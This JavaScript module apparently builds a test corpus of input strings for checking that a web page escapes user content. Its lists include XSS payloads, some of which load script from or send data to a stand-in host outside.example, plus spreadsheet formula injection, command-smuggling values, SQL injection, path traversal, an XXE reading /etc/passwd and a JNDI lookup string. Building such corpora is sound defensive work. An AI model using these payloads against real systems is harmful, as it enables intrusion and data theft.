// Strings that a page shows wrong when something is forgotten: 500 and more, made of what does harm and where it does it.
"use strict";

const ALARM = "window.harmed=1";

// What runs when markup gets through.
const HARMS = [
  `<script>${ALARM}</script>`,
  `<script src=//outside.example/x.js></script>`,
  `<ScRiPt>${ALARM}</sCrIpT>`,
  `<scr<script>ipt>${ALARM}</script>`,
  `<img src=x onerror=${ALARM}>`,
  `<img src="https://outside.example/a.png">`,
  `<svg onload=${ALARM}>`,
  `<svg><script>${ALARM}</script></svg>`,
  `<svg><animate onbegin=${ALARM} attributeName=x dur=1s>`,
  `<math><mi xlink:href="javascript:${ALARM}">x</mi></math>`,
  `<iframe src="javascript:${ALARM}"></iframe>`,
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  `<object data="javascript:${ALARM}"></object>`,
  `<embed src="https://outside.example/x.swf">`,
  `<body onload=${ALARM}>`,
  `<details open ontoggle=${ALARM}>`,
  `<video><source onerror=${ALARM}></video>`,
  `<audio src=x onerror=${ALARM}></audio>`,
  `<input autofocus onfocus=${ALARM}>`,
  `<select autofocus onfocus=${ALARM}>`,
  `<marquee onstart=${ALARM}>x</marquee>`,
  `<a href="javascript:${ALARM}">click</a>`,
  `<a href="data:text/html,<script>${ALARM}</script>">click</a>`,
  `<form action="https://outside.example/"><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://outside.example/">`,
  `<link rel=stylesheet href="https://outside.example/x.css">`,
  `<link rel=prefetch href="https://outside.example/x">`,
  `<base href="https://outside.example/">`,
  `<style>*{background:url(https://outside.example/a)}</style>`,
  `<div style="position:fixed;inset:0;background:red">x</div>`,
  `<template><script>${ALARM}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ALARM}>">`,
  `<textarea><script>${ALARM}</script>`,
  `<title><script>${ALARM}</script>`,
  `<!--<img src="--><img src=x onerror=${ALARM}>">`,
  `<![CDATA[<script>${ALARM}</script>]]>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<x onclick=${ALARM}>x</x>`,
  `<x/onmouseover=${ALARM}>x`,
  `\`><script>${ALARM}</script>`,
];

// Where it stands, and what has to be left first.
const PLACES = [
  (harm) => harm,
  (harm) => `"${">"}${harm}`,
  (harm) => `'>${harm}`,
  (harm) => `</p></li></ol></textarea></script></title>${harm}`,
  (harm) => `--> ]]> ${harm}`,
  (harm) => `&lt;/p&gt;${harm.replaceAll("<", "&lt;")}`,
  (harm) => harm.replaceAll("<", "\u003c").replaceAll("<", "&#60;"),
  (harm) => harm.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (harm) => harm.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (harm) => `data: x\n\nevent: message\ndata: ${harm}`,
];

const ATTRIBUTES = [
  `" onmouseover="${ALARM}`, `' onfocus='${ALARM}' autofocus='`, `" autofocus onfocus="${ALARM}" x="`, `x onclick=${ALARM}`,
  `javascript:${ALARM}`, `JaVaScRiPt:${ALARM}`, `java\tscript:${ALARM}`, `&#106;avascript:${ALARM}`, `vbscript:msgbox(1)`,
  `data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=`, `file:///etc/passwd`, `//outside.example/x`, `\\\\outside.example\\x`,
];

const FORMULAS = ["=", "+", "-", "@", "\t=", "\r="].flatMap((start) => [
  `${start}1+1`, `${start}HYPERLINK("https://outside.example/?"&A1,"click")`, `${start}cmd|' /C calc'!A0`,
]);

const TEMPLATES = [
  "{{7*7}}", "{{ constructor.constructor('harmed=1')() }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% include 'x' %}", "{{self}}",
  "{#", "{%", "%}", "[[${7*7}]]", "*{7*7}", "@{x}", "~{x}", "__${x}__", "$(id)", "`id`", "; id", "| id", "&& id", "$HOME", "%n%n%s",
  "%d%x%p", "../../../../etc/passwd", "..\\..\\win.ini", "' OR 1=1 --", "'; DROP TABLE messages; --", "1; SELECT 1", "\" OR \"\"=\"",
  "%00", "%0d%0aSet-Cookie: a=b", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "\\", "\\\\", "\\'", "\\\"", "${jndi:ldap://outside.example/a}",
];

const WORDS = [
  "undefined", "null", "NULL", "nil", "None", "true", "false", "NaN", "Infinity", "-Infinity", "0", "-0", "1e309", "0x10", "1/0", "00",
  "9007199254740993", "-9223372036854775809", "1.0000000000000001", "1,5", "1'000", "०१२", "__proto__", "constructor", "toString",
  "hasOwnProperty", "then", "CON", "NUL", "LPT1", "index.html", "[object Object]", "[]", "{}", "\"", "'", "''", "\"\"", "`", "<", ">", "&",
  "&amp;", "&amp;amp;", "&#0;", "&#x110000;", "&nosuch;", "&copy", "]]>", "-->", "<!--", "<>", "< >", "</", "/>", "#", "?", "%", "%%", "%E0%A4", "+",
];

const SCRIPTS = [
  "田中さんにあげて下さい", "部落格", "사회과학원 어학연구소", "찦차를 타고 온 펲시맨", "𠜎𠜱𠝹𠱓", "ﺏﺎﻠﻋﺮﺒﻳﺓ", "مُنَاقَشَةُ سُبُلِ اِسْتِخْدَامِ اللُّغَةِ", "בְּרֵאשִׁית בָּרָא", "हिन्दी क्षि",
  "ภาษาไทย ที่", "Ελληνικά", "Кириллица Ёё", "İıŞşĞğ", "ẞß", "Ⱥ Ⱦ", "Å Å", "é é", "ﬁ ﬂ ﬀ", "Ⅷ ½ ²", "ᚠᛇᚻ", "⠃⠗⠇", "𝕋𝕙𝕖", "Ｔｈｅ", "ⓣⓗⓔ", "ʇxǝʇ",
  "👾 🙇 💁", "👩‍👩‍👧‍👦", "🏳️‍🌈 🏴‍☠️", "🇺🇸🇷🇺🇸", "1️⃣ ©️ ™️", "✋🏿 💪🏿", "(╯°□°）╯︵ ┻━┻", "¯\\_(ツ)_/¯", "¡™£¢∞§¶•ªº–≠", "œ∑´®†¥¨ˆøπ“‘", "åß∂ƒ©˙∆˚¬…æ",
  "\u200b", "\u200b\u200bzero\u200bwidth", "\ufeffmark", "\u00ad soft\u00adhyphen", "\u2028line\u2029paragraph", "\u00a0", "\u3000", "\u180e",
  "\u202etxet desrever", "\u202a\u202b\u202c\u202d\u202e", "\u2066isolated", "\u2067right\u2069left", "\u061c", "\u200e\u200f",
  "T\u0317o\u0325\u0348 i\u0351n\u034dv\u035eo\u0357ke", `Z${"\u0353\u0343\u0361".repeat(30)}algo`, "e\u0301".repeat(20), "\u0301alone",
  "line\nline", "line\r\nline", "\ttab\t", " leading", "trailing ", "  two  spaces  ", "\n\n\n", "a\n".repeat(40),
  "W".repeat(120), "i".repeat(120), "-".repeat(120), `${"long".repeat(28)}`, "\ud83d\ude00".repeat(30), "https://outside.example/", "mailto:a@outside.example",
  "user@outside.example", "tel:+34600000000", "AT&T", "O'Neill", "Łódź", "Ægir", "ñandú", "søster", "naïve café",
];

const STRINGS = [
  ...new Set([...HARMS.flatMap((harm) => PLACES.map((place) => place(harm))), ...ATTRIBUTES, ...FORMULAS, ...TEMPLATES, ...WORDS, ...SCRIPTS]),
];

module.exports = { STRINGS };
